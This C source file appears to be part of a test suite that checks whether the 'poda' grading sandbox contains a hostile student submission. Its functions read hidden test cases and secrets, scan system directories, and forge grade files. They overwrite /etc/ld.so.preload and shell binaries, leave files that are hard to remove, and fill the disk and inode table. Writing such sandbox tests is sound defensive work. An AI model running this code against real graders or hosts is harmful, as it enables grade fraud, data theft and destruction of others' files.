/* Attacks on files: those of others are read, run and overwritten, and its own are left
 * for its next run, too many, or hard to remove. */

#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

extern char **environ;

/* --- To read and to run --- */

static bool found_secret;

static int
look_at (const char *path, const struct stat *status, int type, struct FTW *walk)
{
    (void) walk;
    /* This program contains the secrets, too. */
    if (type == FTW_F && S_ISREG (status->st_mode) && (status->st_mode & 0111) == 0)
        found_secret |= file_has_secret (path);
    return found_secret;
}

/* Files that are known, and all places where people keep files. */
bool
read_files (void)
{
    static const char *const hidden[] = {
        TEACHER "/secret.txt",
        "../../../secret.txt",
        SUITE "/suite.ini",
        SUITE "/cases/b-hidden.case",
        "../../week/suite.ini",
        "week/cases/b-hidden.case",
        BIN "/poda",
        BIN "/poda-jail",
        TEACHER "/lib/libpoda.so.0",
        "link-to-secret",
        "link-to-cases/a-open.case",
    };
    static const char *const places[] = { "/home", "/root", "/tmp", "/var/tmp", "/run",
                                          "/dev",  "/mnt",  "/srv", "/opt" };
    bool any = false;
    for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++)
        any |= opens (hidden[i], O_RDONLY);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        nftw (places[i], look_at, 32, FTW_PHYS | FTW_MOUNT);
    return any | found_secret;
}

static bool
solves (const char *program)
{
    char command[256], said[256] = "";
    snprintf (command, sizeof command, "echo '[3,5]' | %s", program);
    FILE *output = popen (command, "r");
    bool any = output != NULL && fgets (said, sizeof said, output) != NULL;
    if (output != NULL)
        pclose (output);
    return any && gained ("%s: %s", program, said);
}

/* poda itself, and an honest student's program. */
bool
run_others (void)
{
    return solves (BIN "/poda solve -") | solves ("../../../bin/poda solve -")
           | solves ("poda solve -") | solves (ANA "/attack honest")
           | solves ("../ana/attack honest");
}

/* What it got from those who started it. */
bool
look_around (void)
{
    static const char *const expected[] = { "PATH=",  "LANG=",   "LC_ALL=",
                                            "HOME=",  "TMPDIR=", "PWD=",
                                            "SHLVL=", "_=",      "OLDPWD=" };
    struct stat status;
    bool any = false;
    for (char **one = environ; *one != NULL; one++) {
        bool known = false;
        for (size_t i = 0; i < sizeof expected / sizeof *expected; i++)
            known |= strncmp (*one, expected[i], strlen (expected[i])) == 0;
        any |= has_secret (*one, strlen (*one), "the environment")
               || (!known && gained ("the environment has %.20s", *one));
    }
    for (int i = 3; i < 65536; i++)
        any |= fstat (i, &status) == 0 && gained ("descriptor %d is open", i);
    for (int i = 0; i < 3; i++)
        any |= fstat (i, &status) == 0 && (S_ISREG (status.st_mode) || isatty (i))
               && gained ("stream %d is a file or terminal", i);
    return any;
}

/* --- To remember from one case to the next --- */

static bool is_leaving; /* the second of two walks, as places may be the same */
static bool found_mark;
static unsigned n_folders;

static int
look_or_leave (const char *path, const struct stat *status, int type, struct FTW *walk)
{
    char name[1024];
    (void) status;
    if (type != FTW_D)
        return FTW_CONTINUE;
    if (walk->level > 3 || strcmp (path, "/proc") == 0 || strcmp (path, "/sys") == 0)
        return FTW_SKIP_SUBTREE;
    snprintf (name, sizeof name, "%.900s/poda-attack-was-here", path);
    if (is_leaving)
        mknod (name, S_IFREG | 0600, 0);
    else if (access (name, F_OK) == 0)
        found_mark = gained ("%s is still there", name);
    return n_folders++ < 20000 ? FTW_CONTINUE : FTW_STOP;
}

/* In all folders that it can write, of which other programs read some. */
bool
keep_in_files (void)
{
    const char *home = getenv ("HOME");
    const char *const places[] = { own (""), home != NULL ? home : ".",
                                   MALLORY,  ".",
                                   "..",     "/" };
    for (int round = 0; round < 2; round++) {
        is_leaving = round == 1;
        n_folders = 0;
        for (size_t i = 0; i < sizeof places / sizeof *places; i++)
            nftw (places[i], look_or_leave, 32, FTW_PHYS | FTW_ACTIONRETVAL);
    }
    return found_mark;
}

/* --- To harm --- */

/* To write a file is one right, to change who may is another. */
bool
overwrite_files (void)
{
    static const char *const names[] = {
        ZOE "/run",           ANA "/run",
        MALLORY "/notes.txt", SUITE "/cases/a-open.case",
        SUITE "/suite.ini",   MARKS "/earlier.csv",
        MARKS "/results.csv", MARKS "/results.json",
        BIN "/poda",          BIN "/poda-jail",
        "/etc/poda-attack",   "/etc/ld.so.preload",
        "/usr/local/bin/sh",  "/usr/local/bin/python3",
        "/run/poda-attack",
    };
    static const char forged[] = "student,score,most\nmallory,999,4\nana,0,4\n";
    const struct timespec times[2] = { { .tv_sec = 1 }, { .tv_sec = 1 } };
    bool any = works ("setxattr", setxattr (SUITE, "user.mark", "x", 1, 0));
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        chmod (names[i], 0);
        utimensat (AT_FDCWD, names[i], times, 0);
        if (truncate (names[i], 0) != 0)
            unlink (names[i]);
        int file = open (names[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
        if (file >= 0 && write (file, forged, sizeof forged - 1) > 0)
            close (file);
    }
    return any;
}

static void
put_link (const char *target, const char *name)
{
    if (symlink (target, name) != 0)
        perror (name);
}

/* Links to others' files, closed folders, and paths longer than any program takes; and
 * in place of its own folders, links to another student's. */
bool
leave_stubborn_files (void)
{
    const char *const folders[] = { getenv ("TMPDIR"), getenv ("HOME") };
    char name[201] = "", away[512];
    put_link (ZOE, own ("a"));
    put_link (SUITE "/", own ("b"));
    put_link (MARKS "/earlier.csv", own ("c"));
    if (link (MARKS "/earlier.csv", own ("d")) == 0)
        chmod (own ("d"), 0);
    mkdir (own ("closed"), 0700);
    mkfifo (own ("closed/\033[2J\nfifo"), 0);
    chmod (own ("closed"), 0);
    memset (name, 'x', sizeof name - 1);
    for (int i = 0; i < 1000 && chdir (i == 0 ? own ("") : name) == 0; i++)
        mkdir (name, 0700);
    chmod (own (""), 0);
    for (size_t i = 0; i < 2; i++) {
        if (folders[i] == NULL || strcmp (folders[i], TEACHER) == 0)
            continue;
        snprintf (away, sizeof away, "%s.away", folders[i]);
        if (rename (folders[i], away) == 0)
            put_link (ZOE, folders[i]);
    }
    return false;
}

/* --- To fill the disk --- */

bool
disk_bomb (void)
{
    static char bytes[1 << 20];
    const char *home = getenv ("HOME");
    const char *const folders[] = { own (""),   home != NULL ? home : ".",
                                    ".",        "/tmp",
                                    "/var/tmp", "/dev/shm" };
    int n = 0;
    signal (SIGXFSZ, SIG_IGN);
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        for (int k = 0; k < 20 && n < 3 * MEBIBYTES; k++) {
            char path[600];
            snprintf (path, sizeof path, "%s/large-%zu-%d", folders[i], i, k);
            int file = open (path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
            for (int m = 0; file >= 0 && m < 32; m++)
                n += write (file, bytes, sizeof bytes) == sizeof bytes;
            if (file >= 0)
                close (file);
        }
    doze (0.3); /* it may be measured now and then */
    return n >= 3 * MEBIBYTES && gained ("%d MiB of disk", n);
}

/* Empty files take memory of the kernel. */
bool
file_bomb (void)
{
    static const char *const folders[] = { "/tmp", "/dev/shm", "." };
    const int many = 400000;
    int n = 0;
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        for (int k = 0; n < many; k++, n++) {
            char path[64];
            snprintf (path, sizeof path, "%s/poda-many-%d", folders[i], k);
            if (mknod (path, S_IFREG | 0600, 0) != 0)
                break;
        }
    return n == many && gained ("%d files", n);
}
